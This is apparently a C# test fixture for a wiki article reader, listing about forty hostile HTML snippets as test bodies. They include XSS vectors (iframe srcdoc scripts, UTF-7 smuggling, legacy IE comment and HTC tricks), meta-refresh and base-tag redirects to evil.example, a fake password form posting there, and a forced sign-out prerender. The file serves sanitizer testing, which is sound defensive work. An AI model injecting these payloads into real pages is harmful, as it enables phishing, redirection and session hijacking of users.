namespace WikiReader.Tests.Articles.Hostile;

/// <summary>Elements that change the page around.</summary>
internal static class HostileElements
{
    public static readonly Dictionary<string, string> Bodies = new(StringComparer.Ordinal)
    {
        ["base"] = "<base href=//evil.example/ target=_top>x",
        ["meta refresh"] = "<meta http-equiv=refresh content='0;url=//evil.example/'>x",
        ["meta that loosens the policy"] = "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta name=referrer content=unsafe-url>x",
        ["link to a style sheet"] = "<link rel=stylesheet href=//evil.example/a.css>x",
        ["link that loads ahead"] = "<link rel=preload as=script href=//evil.example/a.js><link rel=dns-prefetch href=//evil.example>x",
        ["iframe"] = "<iframe src=javascript:alert(1) srcdoc='<script>alert(1)</script>'>x</iframe>",
        ["frames in place of a body"] = "<frameset><frame src=//evil.example/></frameset>",
        ["object, embed and applet"] = "<object data=//evil.example/x.swf><embed src=//evil.example/y.swf></object><applet code=x>y</applet>",
        ["portal and fenced frame"] = "<portal src=//evil.example/></portal><fencedframe src=//evil.example/></fencedframe>",
        ["a form"] = "<form action=//evil.example/ method=post><input name=password type=password><button>Sign in</button></form>",
        ["a form that signs out"] = "<form action=/signout method=post><button>x</button></form>",
        ["a button with an action of its own"] = "<button formaction=javascript:alert(1)>x</button><input type=image src=//evil.example/i.png>",
        ["isindex, keygen, menuitem"] = "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)><menuitem icon=javascript:alert(1)>",
        ["a second body and html"] = "<body onload=alert(1) background=//evil.example/a.png><html onclick=alert(1) manifest=//evil.example/>x",
        ["the end of the body and the page, then more"] = "x</body></html><script>alert(1)</script><p onclick=alert(1)>y",
        ["end tags that close what is around"] = "</article></main></body></html><p>x</p></div></div>",
        ["a dialog and a marquee"] = "<dialog open>x</dialog><marquee onstart=alert(1)>y</marquee><blink>z</blink>",
        ["a custom element and a slot"] = "<x-evil is=y><slot name=z onslotchange=alert(1)>x</slot></x-evil>",
        ["a declared shadow root"] = "<div><template shadowrootmode=open><script>alert(1)</script><style>:host{position:fixed}</style></template>x</div>",
        ["an element with a colon in its name"] = "<o:p onclick=alert(1)>x</o:p><a:script xmlns:a='http://www.w3.org/1999/xhtml'>alert(1)</a:script>",
        ["link that imports from an address that is none"] = "<link rel=import href=\"http://[evil\">a<link rel=stylesheet href=\"http://[evil\">b<iframe src=\"http://[evil\"></iframe><object data=\"http://[evil\"></object>c",
        ["meta with a cookie"] = "<meta http-equiv=Set-Cookie content=\"session=1\"><meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">x",
        ["meta with a charset"] = "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ["meta refresh by data:"] = "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,PHNjcmlwdD4=\">x",
        ["link that prerenders"] = "<link rel=prerender href=/signout><link rel=prefetch href=//evil.example><link rel=modulepreload href=//evil.example/x.js><link rel=manifest href=//evil.example>x",
        ["link that imports"] = "<link rel=import href=//evil.example/x.html><link rel=icon href=//evil.example/i.ico><link rel=pingback href=//evil.example>x",
        ["a style sheet of a list item"] = "<li style=\"list-style-image:url(javascript:alert(1))\">x</li><style>li{list-style-image:url('javascript:alert(1)')}</style>",
        ["a frame with a sandbox of its own"] = "<iframe sandbox=\"allow-scripts allow-same-origin\" srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe><iframe src=/account></iframe>",
        ["an iframe without an end"] = "x<iframe src=//evil.example/ <",
        ["an object with parameters"] = "<object classid=clsid:x type=text/x-scriptlet data=//evil.example/x.html><param name=url value=javascript:alert(1)></object>",
        ["embedded Flash"] = "<embed src=//evil.example/x.swf allowscriptaccess=always type=image/svg+xml>x",
        ["a select that is styled"] = "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)>x</select>",
        ["a form by attribute"] = "<input form=search name=q value=x><button form=search formaction=//evil.example>y</button><output for=x>z</output>",
        ["a text field with a stolen label"] = "<label for=wr-search>x</label><input id=wr-search list=l><datalist id=l><option value=x></datalist>",
        ["a meter, a progress bar and details"] = "<meter value=1>x</meter><progress>y</progress><details open name=x><summary>z</summary>w</details>",
        ["a search and an hgroup"] = "<search>x</search><hgroup><h2>y</h2><p>z</p></hgroup><menu><li>w</menu>",
        ["a canvas and a portal"] = "<canvas id=c>x</canvas><portal src=//evil.example></portal><geolocation>y</geolocation><permission type=camera></permission>",
        ["an XSS by a comment of Internet Explorer"] = "<comment><img src=\"</comment><img src=x onerror=alert(1)>\"></comment>x",
        ["an HTML import of namespaces"] = "<html xmlns:xss><?import namespace=xss implementation=//evil.example/x.htc><xss:xss>x</xss:xss></html>",
        ["a time element that acts"] = "<t:set attributeName=innerHTML to=\"&lt;img src=x onerror=alert(1)&gt;\"></t:set><?import namespace=t implementation=#default#time2>",
    };
}
